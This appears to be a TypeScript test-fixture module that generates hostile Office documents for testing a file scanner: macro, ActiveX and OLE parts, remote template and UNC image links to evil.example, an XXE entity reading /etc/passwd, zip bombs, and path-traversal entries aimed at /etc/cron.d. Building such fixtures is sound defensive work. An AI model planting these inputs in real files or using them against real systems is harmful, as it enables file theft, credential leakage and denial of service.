import type { HostileFile } from './hostile-file.ts'
import { makeZip, type ZipPart } from './make-zip.ts'

const openXml = 'application/vnd.openxmlformats-officedocument'
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const part = (name: string, text: string | Buffer): ZipPart => ({ name, bytes: Buffer.from(text) })

function types(main: string, more = ''): ZipPart {
  return part(
    '[Content_Types].xml',
    `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/main.xml" ContentType="${main}"/>${more}</Types>`,
  )
}

function rels(name: string, ...links: string[]): ZipPart {
  return part(
    name,
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links.join('')}</Relationships>`,
  )
}

const link = (type: string, target: string, outside = false): string =>
  `<Relationship Id="r1" Type="${relations}/${type}" Target="${target}"${outside ? ' TargetMode="External"' : ''}/>`

const word = `${openXml}.wordprocessingml.document.main+xml`
const slides = `${openXml}.presentationml.presentation.main+xml`
const body = part(
  'word/document.xml',
  '<w:document><w:body><w:p><w:r><w:t>示例</w:t></w:r></w:p></w:body></w:document>',
)

/** A DOCX of one paragraph with whatever else is put into it. */
export const docx = (...more: ZipPart[]): Buffer =>
  makeZip([types(word), rels('_rels/.rels', link('officeDocument', 'word/document.xml')), body, ...more])
const pptx = (...more: ZipPart[]): Buffer =>
  makeZip([types(slides), rels('_rels/.rels', link('officeDocument', 'ppt/presentation.xml')), ...more])
const sheet = (...more: ZipPart[]): Buffer => makeZip([types(`${openXml}.spreadsheetml.sheet.main+xml`), ...more])

const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1_000_000)

/** Many parts of 4.9 MB each: none of them is suspicious, all of them are 490 MB. */
const manyParts = (): ZipPart[] =>
  Array.from({ length: 100 }, (_, nth) => part(`ppt/media/${nth}.emf`, Buffer.alloc(4_900_000)))

/** One part of 900 MB that the archive declares as 1 kB. */
const lyingPart = (): ZipPart => ({ name: 'ppt/media/a.emf', bytes: zeros(900), says: 1_000 })

/** The directory of a file that Office encrypted, as it stands behind the header of an old file. */
function encryptedOffice(): Buffer {
  const bytes = Buffer.alloc(4_096)
  bytes.set(Buffer.from('d0cf11e0a1b11ae1', 'hex'))
  bytes.write('EncryptedPackage', 1_024, 'utf16le')
  return bytes
}

const file = (called: string, make: HostileFile['make']): HostileFile => ({
  name: called.replaceAll('.', '-'),
  called,
  make,
})

export const officeFiles: HostileFile[] = [
  file('plain.docx', () => docx()),
  file('plain.pptx', () => pptx()),
  file('with-chart.pptx', () => pptx(part('ppt/embeddings/sheet1.xlsx', sheet()))),
  file('with-link.docx', () =>
    docx(rels('word/_rels/document.xml.rels', link('hyperlink', 'https://doi.org/10.1', true))),
  ),
  file('with-macro.docm', () =>
    makeZip([types('application/vnd.ms-word.document.macroEnabled.main+xml'), body, part('word/vbaProject.bin', 'x')]),
  ),
  file('macro-called.docx', () => docx(part('word/vbaProject.bin', 'Attribute VB_Name'))),
  file('macro-by-type.docx', () =>
    makeZip([
      types(word, '<Override PartName="/word/a.dat" ContentType="application/vnd.ms-office.vbaProject"/>'),
      body,
    ]),
  ),
  file('with-active-x.docx', () => docx(part('word/activeX/activeX1.xml', '<ax/>'))),
  file('with-ole-object.pptx', () => pptx(part('ppt/embeddings/oleObject1.bin', 'MZ'))),
  file('outside-template.docx', () =>
    docx(rels('word/_rels/settings.xml.rels', link('attachedTemplate', 'https://evil.example/t.dotm', true))),
  ),
  file('outside-picture.docx', () =>
    docx(rels('word/_rels/document.xml.rels', link('image', '\\\\evil.example\\a.png', true))),
  ),
  file('with-entities.docx', () =>
    docx(part('word/styles.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')),
  ),
  file('bomb-of-one-part.pptx', () => pptx(part('ppt/media/a.emf', zeros(100)))),
  file('bomb-of-many-parts.pptx', () => pptx(...manyParts())),
  file('bomb-that-lies.pptx', () => pptx(lyingPart())),
  file('bomb-of-many-names.docx', () =>
    docx(...Array.from({ length: 6_000 }, (_, nth) => part(`word/a${nth}.xml`, ''))),
  ),
  file('bomb-in-a-chart.pptx', () => pptx(part('ppt/embeddings/sheet1.xlsx', sheet(part('xl/a.xml', zeros(100)))))),
  file('archive-in-archive.docx', () =>
    docx(part('word/media/a.zip', makeZip([part('b.zip', makeZip([part('c', 'd')]))]))),
  ),
  file('names-that-climb.docx', () => docx(part('../../../etc/cron.d/a', '* * * * * root true'))),
  file('names-of-another-system.docx', () => docx(part('..\\..\\a.exe', 'MZ'))),
  file('needs-password.docx', encryptedOffice),
  file('part-needs-password.docx', () => docx({ ...part('word/a.xml', 'x'), encrypted: true })),
  file('cut-off.docx', () => docx().subarray(0, -30)),
  file('packed-badly.docx', () => docx({ ...part('word/a.xml', 'xxxxxxxx'), packed: Buffer.from('nonsense') })),
  file('only-an-archive.zip', () => makeZip([part('a.txt', 'hello')])),
  file('archive-called.pptx', () => makeZip([part('a.txt', 'hello')])),
  file('sheet.xlsx', () => sheet()),
  file('old.doc', () => encryptedOffice().fill(0, 1_024, 1_100)),
]
